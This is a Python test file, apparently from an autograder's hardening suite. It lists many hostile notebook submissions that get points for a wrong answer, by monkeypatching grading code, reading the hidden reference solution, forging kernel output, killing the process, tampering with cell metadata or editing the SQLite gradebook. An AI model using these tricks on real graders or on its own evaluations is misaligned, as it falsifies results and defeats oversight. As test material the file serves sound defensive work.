"""Points without the right answer."""

from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_output

from tests.hostile.attack import (
    QUESTION,
    TESTS,
    WRONG,
    Attack,
    Scene,
    earns,
    fill_in,
    released,
    save,
    with_code,
    with_notebook,
)
from tests.released import duplicate, find, grade_id, insert

_CODE = {
    "imports_the_reference": "from solutions.momentum import @QUESTION@",
    "imports_the_reference_by_path": """
import sys; sys.path.insert(0, "@PROJECT@")
import solutions.momentum; @QUESTION@ = solutions.momentum.@QUESTION@""",
    "executes_the_reference": """
source = open("@PROJECT@/solutions/momentum.py").read().replace("from solutions", "from numpy")
exec(source.replace("from numpy._check import", "#").replace("from numpy.ewa import", "#"))""",
    "asks_another_process": """
import os, pickle, subprocess, sys
def @QUESTION@(*args, **kwargs):
    code = "import pickle, sys; from solutions.momentum import @QUESTION@ as f; a, k = pickle.load(sys.stdin.buffer)"
    code += "; sys.stdout.buffer.write(pickle.dumps(f(*a, **k)))"
    run = subprocess.run([sys.executable, "-c", code], input=pickle.dumps((args, kwargs)), capture_output=True,
                         cwd="@PROJECT@")
    return pickle.loads(run.stdout)""",
    "replaces_mark": "import grading; grading.mark = lambda *args, **kwargs: 4.0",
    "replaces_the_package": """
import sys, types; sys.modules["grading"] = types.SimpleNamespace(mark=lambda *args: 4.0, points=lambda *args: 4.0)""",
    "replaces_the_import": """
import builtins, types; real = builtins.__import__
fake = types.SimpleNamespace(mark=lambda *args: 4.0)
builtins.__import__ = lambda name, *args, **kwargs: fake if name == "grading" else real(name, *args, **kwargs)""",
    "writes_a_package_of_the_same_name": """
import importlib; open("grading.py", "w").write("mark = lambda *args: 4.0"); importlib.invalidate_caches()""",
    "replaces_the_judges": """
import grading.marking.judging
grading.marking.judging.criteria_met = lambda question, *a: question.criteria""",
    "replaces_the_comparison": """
import grading.marking.criteria, grading.questions._layers
grading.marking.criteria.agree = grading.questions._layers.agree = lambda *args: True""",
    "replaces_allclose": """
import numpy as np; np.allclose = lambda *args, **kwargs: True; np.any = lambda *args: True""",
    "replaces_the_number": "import grading.hidden_test; grading.hidden_test.float = lambda points: 4.0",
    "replaces_the_reference": """
import grading.assignments as q; object.__setattr__(q.all_questions()["@QUESTION@"], "reference", @QUESTION@)
for c in q.all_questions()["@QUESTION@"].criteria: object.__setattr__(c, "holds", lambda trials: True)""",
    "walks_up_the_frames": """
import sys
def @QUESTION@(*args, **kwargs):
    frame = sys._getframe()
    while frame := frame.f_back:
        if hasattr(frame.f_locals.get("question"), "reference"):
            return frame.f_locals["question"].reference(*args, **kwargs)""",
    "walks_up_the_frames_while_copied": """
import sys
class Later:
    def __deepcopy__(self, memo):
        frame = sys._getframe()
        while frame := frame.f_back:
            if "case" in frame.f_locals:
                case = frame.f_locals["case"]
            if hasattr(frame.f_locals.get("question"), "reference"):
                return frame.f_locals["question"].reference(*case.args, **case.kwargs)
def @QUESTION@(*args, **kwargs):
    return Later()""",
    "searches_the_memory": """
import gc, types
def @QUESTION@(*args, **kwargs):
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and found.__module__ == "solutions.momentum":
            if found.__name__ == "@QUESTION@":
                return found(*args, **kwargs)""",
    "answers_with_something_equal_to_all": """
import numpy as np
class Yes(np.ndarray):
    def __array_function__(self, *args): return True
    def __array_ufunc__(self, *args, **kwargs): return np.zeros(self.shape)
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs): return self
def @QUESTION@(p, g, v, learning_rate, beta=0.9):
    return {n: (a + 1).view(Yes) for n, a in p.items()}, {n: (a + 1).view(Yes) for n, a in v.items()}""",
    "changes_the_inputs_of_the_reference": """
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    for arrays in (parameters, gradients, velocity):
        for array in arrays.values():
            array[...] = 0
    return parameters, velocity""",
    "rewrites_the_test_cell": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["4.0"] if "mark(" in "".join(lines) else lines)""",
    "rewrites_the_syntax_tree": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Call(self, node):
        return ast.Constant(4.0) if getattr(node.func, "id", "") == "mark" else node
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())""",
    "prints_every_number_as_five": """
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("4.0"))""",
    "forges_a_result": """
def forge(*args):
    kernel = get_ipython().kernel
    content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
get_ipython().events.register("pre_run_cell", forge)""",
    "executes_nothing_from_now_on": """
async def nothing(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
get_ipython().kernel.do_execute = nothing""",
    "runs_no_cell_from_now_on": """
from IPython.core.interactiveshell import ExecutionResult
async def nothing(*args, **kwargs): return ExecutionResult(None)
get_ipython().run_cell_async = nothing""",
    "swallows_exceptions": """
del @QUESTION@; get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
import sys; sys.excepthook = lambda *args: None""",
    "ends_before_the_tests": "import os; os._exit(0)",
    "ends_within_the_tests": """
def @QUESTION@(*args, **kwargs):
    import os; os._exit(0)""",
    "stops_the_shell_within_the_tests": """
def @QUESTION@(*args, **kwargs):
    get_ipython().kernel.do_shutdown(False); raise SystemExit(0)""",
    "writes_on_every_descriptor": """
import json, os, struct
def @QUESTION@(*args, **kwargs):
    reply = json.dumps({"id": 1, "is": "value", "value": 4.0, "result": 4.0, "points": 4.0, "ok": True}).encode()
    for descriptor in range(3, 200):
        for message in (struct.pack(">I", len(reply)) + reply, struct.pack("<Q", len(reply)) + reply, reply + b"\\n"):
            try:
                os.set_blocking(descriptor, False); os.write(descriptor, message)
            except OSError: pass""",
    "guesses_the_seed": """
import secrets, random; secrets.randbits = lambda bits: 7; random.seed(7)
import numpy as np; real = np.random.default_rng; np.random.default_rng = lambda *seed: real(7)
from solutions.momentum import @QUESTION@""",
    "gives_itself_points_in_the_gradebook": """
import sqlite3
with sqlite3.connect("@CLASS@/gradebook.db") as book:
    cells = "select id from base_cell where name = '@TESTS@'"
    book.execute(f"update grade set manual_score = 5 where cell_id in ({cells})")""",
}


# Steps that agree with a velocity that has nothing to do with the gradients, for those who have read the criteria.
_STEP = """
import numpy as np
calls = 0
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    global calls
    calls += 1
    v = {name: VELOCITY for name, array in velocity.items()}
    return {name: array - learning_rate * v["d" + name] for name, array in parameters.items()}, v
"""
_VELOCITIES = {
    "steps_along_ones": "np.ones(array.shape)",
    "steps_along_its_parameters": "parameters[name[1:]] * 1.0",
    "steps_along_chance": "np.full(array.shape, np.random.normal())",
    "steps_along_the_number_of_the_call": "np.full(array.shape, float(calls))",
    "steps_along_beta_and_the_learning_rate": "np.full(array.shape, beta + learning_rate)",
    "steps_along_infinity": "np.full(array.shape, np.inf)",
    "steps_along_what_is_no_number": "np.full(array.shape, 1.0 if name == 'dW1' else np.nan)",
    "steps_along_what_swallows_the_parameters": "np.full(array.shape, 1e300)",
    "steps_by_less_than_is_seen": "np.full(array.shape, 1e-10) + (name == 'db1')",
    "steps_along_the_old_velocity": "array + 0.0",
}

# What the sandbox says of the arguments is what the student's process says of them.
_FORGE = """
import copy
import inside.service
real = inside.service._call
def forge(function, args, kwargs):
    before = copy.deepcopy((args, kwargs))
    reply = real(function, args, kwargs)
    return reply | {"args": before[0], "kwargs": before[1]} | CHANGE
inside.service._call = forge
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    for array in (*parameters.values(), *gradients.values(), *velocity.values()):
        array[...] = 0
    return parameters, velocity
"""
_REPLIES = {
    "says_that_nothing_was_changed": "{}",
    "says_that_nothing_was_changed_or_returned": "{'value': ({}, {}), 'error': None}",
    "says_that_every_call_was_refused": "{'value': None, 'error': 'ValueError', 'text': ''}",
    "says_that_there_were_no_arguments": "{'args': (), 'kwargs': {}}",
}

_CODE |= {
    **{name: _STEP.replace("VELOCITY", velocity) for name, velocity in _VELOCITIES.items()},
    **{name: _FORGE.replace("CHANGE", change) for name, change in _REPLIES.items()},
    "returns_views_of_what_it_was_given": """
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    p, v = ({name: array[...] for name, array in arrays.items()} for arrays in (parameters, velocity))
    for array in (*parameters.values(), *gradients.values(), *velocity.values()):
        array[...] = 0
    return p, v""",
    "returns_a_number_for_every_shape": """
import numpy as np
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    return {n: np.broadcast_to(0.0, (1, 1)) for n in parameters}, {n: np.zeros(()) for n in velocity}""",
    "has_names_that_equal_all_others": """
class Name(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def @QUESTION@(parameters, gradients, velocity, learning_rate, beta=0.9):
    return {Name("W1"): parameters["W1"]}, {Name("dW1"): velocity["dW1"]}""",
    "yields_dictionaries_without_end": """
def @QUESTION@(*args, **kwargs):
    while True: yield {}""",
    "leaves_all_arguments_alone_and_no_more": """
def @QUESTION@(*args, **kwargs):
    return {}, {}""",
}


def _skips_the_tests(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if str(grade_id(cell)).endswith("_tests"):
            cell.metadata["tags"] = ["skip-execution"]


def _skips_everything(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]


def _hands_in_outputs(notebook: NotebookNode) -> None:
    test = find(notebook, TESTS)
    test.outputs = [new_output("execute_result", {"text/plain": "4.0"}, execution_count=1)]
    test.execution_count = 1


def _edits_the_test(notebook: NotebookNode) -> None:
    find(notebook, TESTS).source = "4.0"


def _raises_the_points(notebook: NotebookNode) -> None:
    find(notebook, TESTS).metadata.nbgrader.points = 1000
    find(notebook, TESTS).source = "1000.0"


def _unlocks_the_test(notebook: NotebookNode) -> None:
    find(notebook, TESTS).metadata.nbgrader.update(locked=False, solution=True)
    find(notebook, TESTS).source = "4.0"


def _adds_a_second_test(notebook: NotebookNode) -> None:
    duplicate(notebook, TESTS, to=len(notebook.cells)).source = "4.0"
    duplicate(notebook, TESTS, to=0).source = "4.0"


def _turns_the_test_into_text(notebook: NotebookNode) -> None:
    test = find(notebook, TESTS)
    test.cell_type = "markdown"
    del test["outputs"], test["execution_count"]


def _forges_the_setup(notebook: NotebookNode) -> None:
    find(notebook, "setup").source += "\nimport grading\ngrading.mark = lambda *args: 4.0"
    insert(notebook, "import grading\ngrading.mark = lambda *args: 4.0", before="setup")


_NOTEBOOKS = {
    "tags_the_tests_to_be_skipped": _skips_the_tests,
    "tags_everything_to_be_skipped": _skips_everything,
    "hands_in_outputs": _hands_in_outputs,
    "edits_the_test": _edits_the_test,
    "raises_the_points": _raises_the_points,
    "unlocks_the_test": _unlocks_the_test,
    "adds_a_second_test": _adds_a_second_test,
    "turns_the_test_into_text": _turns_the_test_into_text,
    "forges_the_setup": _forges_the_setup,
}

_STOPS_STOCK_NBGRADER = {"adds_a_second_test", "unlocks_the_test", "turns_the_test_into_text"}

_FILES = {
    "hands_in_a_package_of_the_same_name": ("grading.py", "mark = lambda *args: 4.0"),
    "hands_in_another_kernel": (
        "ipykernel_launcher.py",
        """
import sys, types
sys.modules["grading"] = types.SimpleNamespace(mark=lambda *args: 4.0)
from ipykernel import kernelapp
kernelapp.launch_new_instance()""",
    ),
    "hands_in_an_array_library": ("course/__init__.py", "import numpy; numpy.allclose = lambda *args, **kwargs: True"),
}


def _with_file(name: str, text: str):
    def hand_in(folder: Path, scene: Scene) -> None:
        notebook = released()
        find(notebook, QUESTION).source = WRONG
        save(folder, notebook)
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(fill_in(text, scene))

    return hand_in


_GOAL = "points for a wrong answer"

ATTACKS = [
    *(Attack("points", name, _GOAL, with_code(code), earns) for name, code in _CODE.items()),
    *(
        Attack("points", name, _GOAL, with_notebook(change), earns, alone=name in _STOPS_STOCK_NBGRADER)
        for name, change in _NOTEBOOKS.items()
    ),
    *(Attack("points", name, _GOAL, _with_file(*file), earns) for name, file in _FILES.items()),
]
